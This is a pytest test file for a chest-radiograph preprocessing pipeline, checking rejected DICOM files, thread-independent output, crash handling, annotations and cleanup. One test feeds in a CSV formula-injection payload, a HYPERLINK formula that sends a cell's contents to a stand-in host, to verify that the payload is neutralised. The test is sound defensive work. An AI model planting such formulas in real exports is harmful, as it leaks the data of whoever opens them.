"""A whole site to packed arrays: contracts between the outputs, broken input, ended runs."""

import errno
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from pydicom import dcmread

from chexviz.base import allocator
from chexviz.base.errors import InputError
from chexviz.data import preprocess as module
from chexviz.data.convert import convert_chunk, perceptual_hashes
from chexviz.data.preprocess import main
from chexviz.images.resizing import resized, square
from made_dicoms import chest, make_manifest, write_dicom
from made_options import NOTHING
from made_workers import Here

NAMES = ("images.npy", "samples.csv", "annotations.csv", "rejected.csv", "contract.csv")
SETTINGS = {
    "reader": "table",
    "findings": ["pneumothorax"],
    **NOTHING,
    "contract": None,
    "size": 32,
    "fit": "pad",
    "max_pixels": 10**6,
}


@pytest.fixture
def processes():
    """Asked for by tests of what worker processes do; the others work in their own."""


@pytest.fixture(autouse=True)
def in_this_process(request, monkeypatch):
    if "processes" not in request.fixturenames:
        monkeypatch.setattr(module, "Workers", Here)


@pytest.fixture
def data(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    return folder


def arguments(data, out, threads=1, **settings):
    words = ["--site", "north", "--manifest", str(data.parent / "manifest.csv")]
    words += ["--settings", json.dumps(SETTINGS | settings), "--threads", str(threads)]
    return words + [
        word for name in NAMES for word in (f"--{name.partition('.')[0]}", str(out / name))
    ]


def run(data, out=None, **options):
    """Preprocess a folder; its four main outputs."""
    out = out or data.parent / "out"
    make_manifest(data)
    main(arguments(data, out, **options))
    text = {"dtype": str, "keep_default_na": False}
    return (
        np.load(out / NAMES[0]),
        pd.read_csv(out / NAMES[1], **text),
        pd.read_csv(out / NAMES[2], **text),
        pd.read_csv(out / NAMES[3], **text),
    )


def hospital(data, count=40, broken=()):
    """A site of `count` images, of which `broken` are text; every fourth is positive."""
    rows = ["file,patient,pneumothorax"]
    for number in range(count):
        file = f"{number:03d}.dcm"
        if number in broken:
            (data / file).write_text("no image")
        else:
            write_dicom(data / file, chest(number), jpeg=number % 2 == 0, PatientAge="62")
        rows.append(f"{file},p{number // 2:03d},{int(number % 4 == 0)}")
    (data / "labels.csv").write_text("\n".join(rows) + "\n")
    return data


def test_every_file_is_a_sample_or_rejected(data):
    hospital(data, 40, broken=(5, 17))
    (data / "040.dcm").write_bytes((data / "002.dcm").read_bytes()[:700])
    with (data / "labels.csv").open("a") as table:
        table.write("040.dcm,x,1\nlost.dcm,x,0\n")
    write_dicom(data / "stranger.dcm", chest(99))
    images, samples, _, rejected = run(data)
    assert images.shape == (38, 32, 32)
    assert images.dtype == np.uint8
    assert samples["image"].tolist() == [f"{n:03d}" for n in range(40) if n not in (5, 17)]
    assert rejected["file"].tolist() == [
        "005.dcm",
        "017.dcm",
        "040.dcm",
        "lost.dcm",
        "stranger.dcm",
    ]
    assert rejected["reason"].tolist() == [
        "not a DICOM file",
        "not a DICOM file",
        "truncated: the file ends before its pixel data does",
        "in labels.csv, but there is no such file",
        "no row in labels.csv",
    ]
    dicoms = {path.name for path in data.glob("*.dcm")}
    assert dicoms == (set(samples["file"]) | set(rejected["file"])) - {"lost.dcm"}


def test_a_file_of_more_pixels_than_its_header_says_is_rejected_alone(data):
    hospital(data, 10)
    path = write_dicom(data / "003.dcm", chest(3))
    dataset = dcmread(path)
    dataset.PixelData *= 2
    dataset.save_as(path)
    images, samples, _, rejected = run(data)
    assert len(images) == len(samples) == 9
    reason = "8192 bytes of pixel data, more than expected: 4096"
    assert rejected.values.tolist() == [["003.dcm", reason]]


def test_a_file_beyond_the_limit_of_pixels_is_rejected(data):
    hospital(data, 4)
    write_dicom(data / "001.dcm", chest(1, (65, 64)))
    _, samples, _, rejected = run(data, max_pixels=4096)
    assert len(samples) == 3
    reason = "too large: 64 x 65 pixels, more than preprocess: max_pixels, 4096"
    assert rejected.values.tolist() == [["001.dcm", reason]]


def test_no_name_or_id_is_a_formula_to_a_spreadsheet(data):
    """An apostrophe before it, the same in all tables; numbers and all other names stay."""
    link = '=HYPERLINK("http://a.b?c="&A1,"click")'
    rows = ["file,patient,pneumothorax"]
    for number, (name, patient) in enumerate(
        [("a", link), ("=b", "+1"), ("'=b", "-2.5"), ("-c", "@d"), ("+d", "'quoted'")]
    ):
        write_dicom(data / f"{name}.dcm", chest(number))
        quoted = patient.replace('"', '""')
        rows.append(f'{name}.dcm,"{quoted}",{number % 2}')
    (data / "=e.dcm").write_text("no image")
    (data / "labels.csv").write_text("\n".join([*rows, "=e.dcm,-x,0"]) + "\n")
    _, samples, _, rejected = run(data)
    found = dict(zip(samples["image"], samples["patient"], strict=True))
    assert found == {
        "a": f"'{link}",
        "'=b": "+1",
        "''=b": "-2.5",
        "'-c": "'@d",
        "'+d": "'quoted'",
    }
    assert rejected["file"].tolist() == ["'=e.dcm"]
    for name in NAMES[1:]:
        table = pd.read_csv(data.parent / "out" / name, dtype=str, keep_default_na=False)
        for text in [*table.columns, *table.to_numpy().ravel()]:
            assert text[:1] not in "=@\t\r" or not text, (name, text)
            assert text[:1] not in "+-" or not text or float(text), (name, text)


def test_rows_describe_their_images(data):
    hospital(data, 6, broken=(1,))
    write_dicom(data / "005.dcm", chest(5, (64, 48)), PixelSpacing=["0.2", "0.2"], PatientSex="F")
    images, samples, _, _ = run(data)
    assert list(samples.columns) == [*module.SAMPLES.names, "label_pneumothorax"]
    assert samples["label_pneumothorax"].tolist() == ["1", "0", "0", "1", "0"]
    assert samples["patient"].tolist() == ["p000", "p001", "p001", "p002", "p002"]
    assert samples["phash"].tolist() == perceptual_hashes(images)
    last = samples.iloc[-1]
    # 64 pixels of 0.2 mm become 32.
    assert (last["spacing"], last["sex"], last["age"], last["view"]) == ("0.4", "F", "", "")
    assert samples["age"].tolist()[:-1] == ["62"] * 4
    manifest = pd.read_csv(data.parent / "manifest.csv").set_index("file")["sha256"]
    assert samples["sha256"].tolist() == manifest[samples["file"]].tolist()
    for image, number in zip(images, (0, 2, 3, 4), strict=False):
        plain = resized(chest(number), (64, 64), square(64, 64, "pad"), 32)
        assert np.abs(image.astype(float) - plain).mean() < 2


@pytest.mark.usefixtures("processes")
def test_bytes_do_not_depend_on_the_number_of_threads(data, tmp_path, monkeypatch):
    monkeypatch.setattr(module, "FLUSHED", 2)
    hospital(data, 70, broken=(0, 33, 69))
    for threads in (1, 2, 3):
        run(data, tmp_path / str(threads), threads=threads)
    for name in NAMES:
        one, two, three = (tmp_path / str(threads) / name for threads in (1, 2, 3))
        assert one.read_bytes() == two.read_bytes() == three.read_bytes()


def test_it_runs_as_a_program(data):
    hospital(data, 20)
    make_manifest(data)
    out = data.parent / "out"
    command = [sys.executable, "-m", "chexviz.data.preprocess", *arguments(data, out, threads=2)]
    path = os.pathsep.join(sys.path)
    done = subprocess.run(
        command, capture_output=True, text=True, env=os.environ | {"PYTHONPATH": path}
    )
    assert done.returncode == 0, done.stderr
    assert "preprocess north: 20 images, 5 with pneumothorax, 0 rejected" in done.stderr
    # Their ages break the standard, on which pydicom would warn for every file.
    assert "Warning" not in done.stderr
    assert sorted(path.name for path in out.iterdir()) == sorted(NAMES)


def test_the_summary_counts_the_reasons(data, capsys):
    hospital(data, 6, broken=(1, 2))
    write_dicom(data / "stranger.dcm", chest(9))
    run(data)
    line = capsys.readouterr().err.splitlines()[-1]
    assert line == (
        "preprocess north: 4 images, 2 with pneumothorax, 3 rejected "
        "(2 x not a DICOM file; 1 x no row in labels.csv); "
        "3 patients are known, of 4 images"
    )
    table = (data / "labels.csv").read_text()
    for name, words in (("p002", "1 patients are known, of 2 images"), ("nan", "no patient is")):
        missing = table.replace("p000", "NA").replace("p001", "null").replace("p002", name)
        (data / "labels.csv").write_text(missing)
        run(data)
        assert words in capsys.readouterr().err.splitlines()[-1]


def test_unlabelled_images_stay_without_label(data):
    hospital(data, 4)
    table = (data / "labels.csv").read_text().replace("001.dcm,p000,0", "001.dcm,p000,")
    (data / "labels.csv").write_text(table)
    _, samples, _, _ = run(data)
    assert samples["label_pneumothorax"].tolist() == ["1", "", "0", "0"]


def convert_or_die(tasks, images, size, fit, max_pixels):
    """What a worker does, with a decoder that crashes on two of the files."""
    if {"003", "021"} & {task.image for task in tasks}:
        os.kill(os.getpid(), signal.SIGSEGV)
    return convert_chunk(tasks, images, size, fit, max_pixels)


@pytest.mark.usefixtures("processes")
@pytest.mark.parametrize("threads", [1, 2])
def test_a_file_that_crashes_its_decoder_is_rejected_alone(data, monkeypatch, threads):
    monkeypatch.setattr(module, "convert_chunk", convert_or_die)
    hospital(data, 40, broken=(5,))
    images, samples, _, rejected = run(data, threads=threads)
    assert rejected["file"].tolist() == ["003.dcm", "005.dcm", "021.dcm"]
    assert rejected["reason"][0] == "it crashed the process that decoded it: SIGSEGV"
    assert len(images) == len(samples) == 37
    assert samples["phash"].tolist() == perceptual_hashes(images)


def convert_or_be_killed(tasks, images, size, fit, max_pixels):
    """What a worker does where a system is out of memory whenever one of the files is read."""
    if "021" in {task.image for task in tasks}:
        os.kill(os.getpid(), signal.SIGKILL)
    return convert_chunk(tasks, images, size, fit, max_pixels)


@pytest.mark.usefixtures("processes")
def test_a_worker_that_is_killed_from_outside_ends_the_run(data, monkeypatch):
    monkeypatch.setattr(module, "convert_chunk", convert_or_be_killed)
    hospital(data, 40)
    with pytest.raises(InputError, match="more memory, or fewer threads") as caught:
        run(data, threads=2)
    assert "021.dcm" in caught.value.where
    assert "SIGKILL" in caught.value.found
    assert_nothing_left(data)


@pytest.mark.usefixtures("processes")
def test_a_lack_of_memory_ends_the_run(data, monkeypatch):
    monkeypatch.setattr(module, "convert_chunk", convert_without_memory)
    hospital(data, 4)
    with pytest.raises(InputError, match="more memory, or fewer threads") as caught:
        run(data)
    assert "000.dcm" in caught.value.where
    assert "Unable to allocate" in caught.value.found
    assert_nothing_left(data)


def convert_without_memory(tasks, images, size, fit, max_pixels):
    """What a worker does that gets no memory."""
    allocator.DECODING = 2**48
    return convert_chunk(tasks, images, size, fit, max_pixels)


def test_a_folder_that_cannot_be_entered_is_no_change_of_its_files(data, monkeypatch):
    hospital(data, 3)
    make_manifest(data)
    stat = Path.stat

    def refused(path, **options):
        if path.name == "001.dcm":
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return stat(path, **options)

    monkeypatch.setattr(Path, "stat", refused)
    with pytest.raises(InputError, match="Permission denied") as caught:
        main(arguments(data, data.parent / "out"))
    assert "001.dcm" in caught.value.where
    assert "changed" not in caught.value.fix
    assert_nothing_left(data)


@pytest.mark.usefixtures("processes")
def test_a_file_that_cannot_be_read_any_more_ends_the_run(data, monkeypatch):
    monkeypatch.setattr(module, "convert_chunk", convert_what_is_lost)
    hospital(data, 40)
    with pytest.raises(InputError, match="a file that can be read") as caught:
        run(data, threads=2)
    assert "021.dcm" in caught.value.where
    assert caught.value.found == "No such file or directory"
    assert_nothing_left(data)


def convert_what_is_lost(tasks, images, size, fit, max_pixels):
    """What a worker does, with a disk that loses a file after it was checked."""
    for task in tasks:
        if task.image == "021":
            task.path.unlink()
    return convert_chunk(tasks, images, size, fit, max_pixels)


def half_way(data, out):
    """A preprocessing of 2,000 images by two workers that has written the first of them."""
    copies(data, 2000)
    process = subprocess.Popen(
        [sys.executable, "-m", "chexviz.data.preprocess", *arguments(data, out, 2, size=224)],
        env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)},
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    partial = out / ".images.partial.npy"
    while not (partial.exists() and partial.stat().st_size):
        assert process.poll() is None
        time.sleep(0.01)
    return process


@pytest.mark.usefixtures("processes")
def test_a_run_that_is_killed_half_way_leaves_no_final_name_and_the_next_one_all(data):
    out = data.parent / "out"
    with half_way(data, out) as process:
        process.kill()
    partial = out / ".images.partial.npy"
    assert partial.stat().st_size < 2000 * 224**2
    assert not [path for path in out.iterdir() if not path.name.startswith(".")]
    main(arguments(data, out, 2, size=224))
    images = np.load(out / "images.npy", mmap_mode="r")
    assert len(images) == 2000
    assert np.array_equal(images[:20], images[-20:])
    assert images[-1].any()
    assert not partial.exists()


def test_ctrl_c_ends_a_run_in_a_word_and_leaves_nothing(data):
    out = data.parent / "out"
    with half_way(data, out) as process:
        os.killpg(process.pid, signal.SIGINT)
        said = process.stderr.read()
    assert process.returncode == 130
    assert said.splitlines()[-1] == "stopped by Ctrl-C"
    assert "Traceback" not in said
    assert not list(out.iterdir())


def test_what_a_killed_run_left_is_gone(data):
    hospital(data, 4)
    left = data.parent / "out" / ".images.partial.npy"
    left.parent.mkdir()
    left.write_bytes(b"x" * 10**6)
    images, *_ = run(data)
    assert images.shape == (4, 32, 32)
    assert sorted(path.name for path in left.parent.iterdir()) == sorted(NAMES)


@pytest.fixture
def drawn_on_64(monkeypatch):
    """Boxes and masks of the challenges are drawn on images as small as those of these tests."""
    for reader in ("rsna", "siim"):
        monkeypatch.setattr(f"chexviz.data.readers.{reader}.SIDE", 64)


@pytest.mark.usefixtures("drawn_on_64")
def test_boxes_and_masks_reach_the_table(data):
    for name in ("a", "b"):
        write_dicom(data / f"{name}.dcm", chest(1))
    (data / "train-rle.csv").write_text("ImageId, EncodedPixels\na,0 8 56 8\nb,-1\n")
    _, _, annotations, _ = run(data, reader="siim")
    assert list(annotations.columns) == ["image", "finding", "x", "y", "width", "height", "runs"]
    assert annotations.values.tolist() == [["a", "pneumothorax", "0.0", "0.0", "1.0", "4.0", "0 4"]]


@pytest.mark.usefixtures("drawn_on_64")
def test_an_annotation_that_does_not_fit_ends_the_run(data):
    for name in ("a", "b", "c"):
        write_dicom(data / f"{name}.dcm", chest(1))
    table = "patientId,x,y,width,height,Target\na,0,0,64,64,1\nb,60,0,9,9,1\nc,,,,,0\n"
    (data / "stage_2_train_labels.csv").write_text(table)
    with pytest.raises(InputError, match="boxes within its 64 x 64 pixels") as caught:
        run(data, reader="rsna", findings=["pneumonia"])
    assert caught.value.where.endswith("b.dcm")
    assert_nothing_left(data)


FINDINGS = """image,ward,view,sex,age,set,Pleural Effusion,mass
in/a.dcm,p1,ap,Female,45.0,train,1,
in/b.dcm,p1,PA,M,,test,-1,0
in/c.dcm,p2,,,,val,,1
in/d.dcm,,lateral,F,9,,0,
"""
COLUMNS = {"file": "image", "patient": "ward", "view": "view", "sex": "sex", "age": "age"}
COLUMNS |= {"subset": "set", "findings": {"pleural_effusion": "Pleural Effusion"}}
SEVERAL = {
    "findings": ["pleural_effusion", "mass"],
    "columns": COLUMNS,
    "given_split": True,
    "uncertain": "negative",
}


def several(data):
    """A site of two findings, whose files say little; of d, the age that it says is impossible."""
    for number, name in enumerate("abcd"):
        tags = {"b": {"ViewPosition": "AP", "PatientAge": "030Y"}, "d": {"PatientAge": "155"}}
        write_dicom(data / f"in/{name}.dcm", chest(number), **tags.get(name, {}))
    (data / "labels.csv").write_text(FINDINGS)
    return data


def test_a_site_of_several_findings(data, capsys):
    several(data)
    boxes = "image,finding,x,y,width,height,segmentation\na,mass,16,32,8,4,\n"
    mask = '"{""size"":[64,64],""counts"":[64,64,3968]}"'
    boxes += f"in/a.dcm,pleural_effusion,,,,,{mask}\nc,mass,0,0,64,64,\n"
    (data / "boxes.csv").write_text(boxes)
    _, samples, annotations, _ = run(data, annotations="boxes.csv", **SEVERAL)
    labels = ["label_pleural_effusion", "label_mass"]
    assert list(samples.columns) == [*module.SAMPLES.names, *labels]
    columns = ["image", "patient", "subset", "view", "sex", "age", "age_stated", *labels]
    assert samples[columns].values.tolist() == [
        ["a", "p1", "train", "AP", "F", "45", "45.0", "1", ""],
        ["b", "p1", "evaluation", "AP", "M", "30", "030Y", "0", "0"],
        ["c", "p2", "validation", "", "", "", "", "", "1"],
        ["d", "d", "", "LATERAL", "F", "", "155", "0", ""],
    ]
    assert annotations.drop(columns="runs").values.tolist() == [
        ["a", "mass", "8.0", "16.0", "4.0", "2.0"],
        ["a", "pleural_effusion", "0.5", "0.0", "0.5", "32.0"],
        ["c", "mass", "0.0", "0.0", "32.0", "32.0"],
    ]
    assert annotations["runs"].tolist() == ["", "0 32", ""]
    line = capsys.readouterr().err.splitlines()[-1]
    assert "4 images, 1 with pleural_effusion, 1 with mass, 0 rejected; 2 patients" in line


@pytest.mark.parametrize(
    ("table", "said"),
    [
        ("image,finding,x,y,width,height\nb,mass,60,60,9,9\n", "boxes within its 64 x 64"),
        (
            'image,finding,segmentation\nb,mass,"{""size"":[32,48],""counts"":[1,1535]}"\n',
            "48 x 32 pixels, on which its boxes or masks were drawn",
        ),
        ("image,finding,EncodedPixels\nb,mass,4090 9\n", "a mask within its 64 x 64 pixels"),
    ],
)
def test_a_hospitals_annotation_that_does_not_fit_ends_the_run(data, table, said):
    several(data)
    (data / "boxes.csv").write_text(table)
    with pytest.raises(InputError, match=said) as caught:
        run(data, annotations="boxes.csv", **SEVERAL)
    assert caught.value.where.endswith("in/b.dcm")
    assert_nothing_left(data)


def test_a_site_of_unknown_labels_is_empty_where_those_that_are_known_cannot_be_read(data):
    several(data)
    for name in ("a", "b", "d"):
        (data / f"in/{name}.dcm").write_text("no image")
    with pytest.raises(InputError, match="empty site") as caught:
        run(data, **SEVERAL | {"findings": ["pleural_effusion"]})
    assert "1 images, 0 with pleural_effusion, 3 rejected" in caught.value.found
    assert_nothing_left(data)


@pytest.mark.parametrize(
    ("reader", "findings", "name", "table"),
    [
        (
            "rsna",
            ["pneumonia"],
            "stage_2_train_labels.csv",
            "patientId,x,y,width,height,Target\na,9,9,9,9,1\n",
        ),
        ("siim", ["pneumothorax"], "train-rle.csv", "ImageId, EncodedPixels\na,9 9\n"),
    ],
)
def test_a_resized_copy_of_a_challenge_ends_the_run(data, reader, findings, name, table):
    """Their boxes and masks are in pixels of 1024 x 1024: on these they would lie elsewhere."""
    write_dicom(data / "a.dcm", chest(1))
    (data / name).write_text(table)
    with pytest.raises(InputError, match="1024 x 1024 pixels, on which its boxes") as caught:
        run(data, reader=reader, findings=findings)
    assert caught.value.found == "64 x 64"
    assert_nothing_left(data)


def test_files_that_are_no_radiographs_and_in_no_table_are_counted(data, capsys):
    hospital(data, 4)
    for name in ("notes.txt", "a.pdf", "b.PDF", "README"):
        (data / name).write_text("no DICOM")
    run(data)
    assert capsys.readouterr().err.splitlines()[0] == (
        "preprocess north: 4 other files were not read, being neither radiographs nor in the "
        "label table: 2 x .pdf, 1 x no suffix, 1 x .txt"
    )


def test_what_is_kept_meets_the_contract_or_the_run_ends(data, capsys):
    """Files that cannot be decoded are in the table: 6 images, 2 positive, as it is expected."""
    hospital(data, 6, broken=(4,))
    agreed = {"strict": True, "files": {}, "columns": {}, "rows": 6, "ids": 6}
    agreed |= {"images": 6, "positives": {"pneumothorax": 2}}
    with pytest.raises(InputError, match="2 of its checks differ") as caught:
        run(data, contract=agreed)
    for words in (
        "kept images: expected 6; found 5",
        "kept positives of pneumothorax: expected 2; found 1",
    ):
        assert words in caught.value.found
    assert "1 x not a DICOM file" in caught.value.found
    assert_nothing_left(data)
    run(data, contract=agreed | {"strict": False})
    assert "kept images: expected 6; found 5" in capsys.readouterr().err
    table = pd.read_csv(data.parent / "out" / "contract.csv", dtype=str).set_index("check")
    assert table["verdict"].to_dict() == {
        "rows of the label table": "as expected",
        "ids of the label table": "as expected",
        "images": "as expected",
        "positives of pneumothorax": "as expected",
        "kept images": "differs",
        "kept positives of pneumothorax": "differs",
    }


def assert_nothing_left(data):
    out = data.parent / "out"
    assert not out.exists() or not list(out.iterdir())


def test_a_site_of_broken_files_is_empty(data):
    hospital(data, 3, broken=(0, 1, 2))
    with pytest.raises(InputError, match="empty site") as caught:
        run(data)
    assert "3 x not a DICOM file" in caught.value.found
    assert_nothing_left(data)


def test_a_changed_file_is_noticed_before_any_work(data):
    hospital(data, 3)
    make_manifest(data)
    (data / "001.dcm").unlink()
    with pytest.raises(InputError, match="No such file") as caught:
        main(arguments(data, data.parent / "out"))
    assert "001.dcm" in caught.value.where
    (data / "001.dcm").write_text("shorter")
    with pytest.raises(InputError, match="7 bytes"):
        main(arguments(data, data.parent / "out"))
    assert_nothing_left(data)


@pytest.mark.usefixtures("processes")
@pytest.mark.parametrize("file", ["001.dcm", "002.dcm", "labels.csv"])
def test_other_bytes_of_the_same_size_are_noticed(data, file):
    hospital(data, 40, broken=(2,))
    make_manifest(data)
    content = bytearray((data / file).read_bytes())
    content[-1] ^= 1
    (data / file).write_bytes(content)
    with pytest.raises(InputError, match="SHA-256") as caught:
        main(arguments(data, data.parent / "out", threads=2))
    assert file in caught.value.where
    assert "downloads it again" in caught.value.fix
    assert_nothing_left(data)


def peak():
    """The most memory that this process had at once, in MiB.

    getrusage would count that of the process that started this one, too.
    """
    status = Path("/proc/self/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0]) / 1024


def convert_and_measure(tasks, images, size, fit, max_pixels):
    """What a worker does, which then writes its peak memory beside the images."""
    done = convert_chunk(tasks, images, size, fit, max_pixels)
    images.with_name(f"peak.{os.getpid()}").write_text(str(peak()))
    return done


MEASURED = """
import sys
import test_preprocess
from chexviz.data import preprocess
preprocess.convert_chunk = test_preprocess.convert_and_measure
preprocess.main(sys.argv[1:])
print(test_preprocess.peak())
"""


def copies(data, count):
    """A site of `count` images of 256 x 256 pixels under as many names, of which 20 differ."""
    data.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        source = data / f"{number % 20:04d}.dcm"
        if number < 20:
            write_dicom(source, chest(number, (256, 256)), jpeg=True)
        else:
            (data / f"{number:04d}.dcm").hardlink_to(source)
    rows = [f"{number:04d}.dcm,{number},{number % 2}" for number in range(count)]
    (data / "labels.csv").write_text("\n".join(["file,patient,pneumothorax", *rows]))
    make_manifest(data)


def peaks(data, count):
    """Peak memory, in MiB, of preprocessing `count` images of 224 pixels: parent, workers."""
    copies(data, count)
    out = data.parent / "out"
    parent = said(MEASURED, *arguments(data, out, threads=2, size=224))
    assert len(np.load(out / "images.npy", mmap_mode="r")) == count
    return np.array([float(parent), max(float(path.read_text()) for path in out.glob("peak.*"))])


def said(program, *words):
    """What a program prints that can import what this one can."""
    environment = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}
    command = [sys.executable, "-c", program, *words]
    return subprocess.run(command, capture_output=True, check=True, env=environment).stdout


def test_ten_times_the_images_need_no_more_memory(tmp_path):
    few, many = peaks(tmp_path / "few" / "data", 200), peaks(tmp_path / "many" / "data", 2000)
    # The images alone are 86 MiB more; the rows of the tables take 1 KiB each.
    assert (many - few < 16).all(), (few, many)


DEEP = """
import sys
from pathlib import Path
from chexviz.data.decoding import dicom_transforms
from chexviz.data.convert import Task, convert
from test_preprocess import peak
data = Path(sys.argv[1]).read_bytes()
before = peak()
convert(data, Task(0, Path(sys.argv[1]), "x", [], []), 224, "pad", 36_000_000)
print(peak() - before)
"""


def test_a_deep_image_takes_few_bytes_a_pixel(tmp_path):
    """Its bytes in the file, its values, and what becomes of them in float32."""
    deep = chest(1, (3000, 3000)).astype(np.uint16) * 16
    tags = {"BitsStored": 12, "HighBit": 11, "PhotometricInterpretation": "MONOCHROME1"}
    tags |= {"RescaleSlope": "2", "RescaleIntercept": "-100"}
    path = write_dicom(tmp_path / "x.dcm", deep, WindowCenter="3000", WindowWidth="2500", **tags)
    assert 4 < float(said(DEEP, path)) * 2**20 / deep.size < 14


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        ({"reader": "ecg"}, "one of rsna, siim, "),
        ({"labels": "none.csv"}, "none.csv"),
        ({"patients": "none.csv"}, "none.csv"),
        ({"findings": ["pneumonia"]}, "pneumonia"),
    ],
)
def test_bad_settings_leave_nothing(data, settings, said):
    hospital(data, 3)
    with pytest.raises(InputError, match=said):
        run(data, **settings)
    assert_nothing_left(data)


def test_a_failure_at_the_end_leaves_nothing(data, monkeypatch):
    hospital(data, 3)

    def fail(table, path):
        raise OSError("no space left on device")

    monkeypatch.setattr(module.REJECTED, "write", fail)
    with pytest.raises(OSError, match="no space"):
        run(data)
    assert_nothing_left(data)
